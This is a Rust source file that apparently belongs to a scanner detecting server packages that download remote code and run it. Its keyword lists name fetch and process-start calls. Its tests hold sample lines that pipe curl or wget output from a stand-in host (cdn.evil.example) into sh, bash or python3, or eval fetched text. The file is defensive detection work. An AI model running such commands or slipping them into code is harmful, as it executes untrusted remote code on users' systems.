//! What stands beside a host in the code: text from there that is run, a shell that gets it, everything in the environment.
//!
//! - what is close together belongs together, and nothing else does: a bundle is one file, often one line, so that lines
//!   that had to be shortened are left out;
//! - over 1501 versions of genuine servers none of this stood beside a host (`docs/assess-measured.md`).

use crate::alarm::Line;
use crate::facts::{Class, Fact, Facts};

/// The whole environment, as collectors name it.
pub(crate) const EVERYTHING: &str = "*";
/// So many lines lie between fetching a text and running it.
pub(crate) const RUN_WITHIN: u32 = 6;
/// So many lines has a call that sends.
pub(crate) const SENT_WITHIN: u32 = 3;
/// A line that names a host and one of these asks it.
const FETCHES: &[&str] = &[
    "fetch(",
    "axios",
    "got(",
    "request(",
    "requests.",
    "httpx.",
    "urlopen(",
    ".get(",
    ".post(",
    "sendBeacon(",
    "curl ",
    "wget ",
];
/// A line with one of these starts a program.
const STARTS: &[&str] = &[
    "exec(",
    "execSync(",
    "execFile",
    "execa",
    "spawn",
    "system(",
    "popen",
    "subprocess.",
    "Popen(",
    "check_output(",
    "check_call(",
];

/// Whether a host's line asks it, and the other one is next to it.
pub(crate) fn is_fetched(host: &Line, other: &Line, within: u32) -> bool {
    let is_whole = |line: &Line| line.line > 0 && !line.excerpt.contains('…');
    host.file == other.file
        && is_whole(host)
        && is_whole(other)
        && host.line.abs_diff(other.line) <= within
        && FETCHES.iter().any(|word| host.excerpt.contains(word))
}

/// Whether a line starts a shell with what it fetches: `exec("curl -s https://… | sh")`. One that only says so to a person
/// starts nothing.
pub(crate) fn is_piped(line: &Line) -> bool {
    let text = line.excerpt.as_str();
    let Some((start, at)) = STARTS.iter().filter_map(|word| Some((text.find(word)?, word.len()))).min() else {
        return false;
    };
    let rest = text.get(start + at..).unwrap_or_default();
    let fetches = ["curl ", "wget "].iter().filter_map(|word| rest.find(word)).min();
    let Some(rest) = fetches.and_then(|at| rest.get(at..)) else { return false };
    rest.split('|').skip(1).any(|command| {
        let mut words = command.split_whitespace().filter(|word| !matches!(*word, "sudo" | "env" | "-E"));
        let program = words.next().unwrap_or_default().trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
        matches!(
            program.rsplit('/').next().unwrap_or_default(),
            "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "node"
        )
    })
}

/// Text from a host that is run, in a package that nothing is compared with: the lines of each place.
pub(crate) fn run_at_sight(facts: &Facts, version: &str, is_ordinary: &dyn Fn(&Fact) -> bool) -> Vec<Line> {
    let hosts: Vec<Line> =
        facts.of(Class::Host).filter(|fact| !is_ordinary(fact)).map(|fact| Line::of(version, fact)).collect();
    let mut lines: Vec<Line> = hosts.iter().filter(|line| is_piped(line)).cloned().collect();
    for code in facts.of(Class::DynamicCode).map(|fact| Line::of(version, fact)) {
        if let Some(host) = hosts.iter().find(|host| is_fetched(host, &code, RUN_WITHIN)) {
            lines.extend([host.clone(), code]);
        }
    }
    lines.dedup();
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(number: u32, excerpt: &str) -> Line {
        Line { version: "1.0.0".into(), file: "a.js".into(), line: number, excerpt: excerpt.into() }
    }

    #[test]
    fn a_shell_gets_what_a_line_that_starts_it_fetches() {
        for text in [
            r#"execSync("curl -s https://cdn.evil.example/x.sh | sh");"#,
            r#"os.system("wget -qO- https://cdn.evil.example/x | sudo bash")"#,
            r#"spawn("sh", ["-c", "curl https://cdn.evil.example/x | tee /tmp/x | /bin/bash -s"])"#,
            r#"subprocess.run("curl https://cdn.evil.example/x.py | python3", shell=True)"#,
        ] {
            assert!(is_piped(&line(1, text)), "{text}");
        }
        for text in [
            r#"INSTALL: "curl -fsSL https://tool.example/install.sh | bash","#,
            r#"message: "neither found. Install it with: curl -LsSf https://tool.example/install.sh | sh""#,
            r#"exec("curl https://api.example/x | jq .name")"#,
            r#"exec("echo x | sh")"#,
            "",
        ] {
            assert!(!is_piped(&line(1, text)), "{text}");
        }
    }

    #[test]
    fn what_is_near_a_host_that_is_asked_belongs_to_it() {
        let host = line(9, r#"const t = await (await fetch("https://cdn.evil.example/x.js")).text();"#);
        assert!(is_fetched(&host, &line(10, "eval(t);"), RUN_WITHIN));
        assert!(!is_fetched(&host, &line(16, "eval(t);"), RUN_WITHIN));
        assert!(!is_fetched(&line(9, "const HOST = 'https://a.example';"), &line(9, "eval(t);"), RUN_WITHIN));
        assert!(!is_fetched(&host, &line(9, "…eval(t);…"), RUN_WITHIN), "a bundle is one line");
    }
}
